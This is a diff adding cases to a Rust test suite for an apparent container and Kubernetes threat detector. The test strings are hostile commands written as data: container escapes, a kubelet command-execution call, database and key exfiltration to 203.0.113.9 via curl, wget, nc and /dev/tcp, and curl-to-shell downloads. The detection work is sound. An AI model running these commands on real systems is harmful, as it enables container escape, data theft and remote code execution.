@@ -231,6 +231,7 @@ fn escapes() {
             "unshare -UrmC bash",
             "debugfs /dev/sda1",
             "insmod /tmp/x.ko",
+            "curl -sk https://10.0.1.7:10250/run/shop/web/app -d cmd=id",
         ],
     );
     // What runs on the node is looked at too.
@@ -320,6 +321,14 @@ fn tools_and_clients() {
             "curl -k https://$KUBERNETES_SERVICE_HOST/api",
         ],
     );
+    all_have(
+        Kind::PackageInstalled,
+        &[
+            "apt-get install -y nmap",
+            "apk add --no-cache curl",
+            "apt update && apt install -y gcc",
+        ],
+    );
     assert!(super::is_offensive_image("kalilinux/kali-rolling"));
     assert!(super::is_offensive_image("aquasec/kube-hunter:0.6"));
     assert!(!super::is_offensive_image("nicolaka/netshoot"));
@@ -366,6 +375,7 @@ fn data_that_is_sent() {
             "mysqldump --all-databases | gzip | curl -T - http://203.0.113.9/x",
             "cat /data/db.sqlite > /dev/tcp/203.0.113.9/9000",
             "nc 203.0.113.9 9000 < /data/db.sqlite",
+            "wget -q \"http://203.0.113.9/?t=$(cat /data/key | base64 -w0)\"",
         ],
     );
 }
@@ -412,6 +422,26 @@ fn shells() {
         "bash --version",
     ] {
         assert!(!kinds(line).contains(&Kind::Shell), "{line}");
+    }
+}
+
+#[test]
+fn words_that_were_joined() {
+    for (line, expected) in [
+        ("sh -c curl http://203.0.113.9/x | sh", true),
+        (
+            "/bin/bash -e -o pipefail -c curl http://203.0.113.9/x | sh",
+            true,
+        ),
+        ("/bin/bash -e -lc curl http://203.0.113.9/x | sh", true),
+        (
+            "sh -c nginx -s quit; while killall -0 nginx; do sleep 1; done",
+            false,
+        ),
+        ("sh /run.sh", false),
+    ] {
+        let signs = Commands::of_line(line).signs();
+        assert_eq!(!signs.is_empty(), expected, "{line}");
     }
 }
 
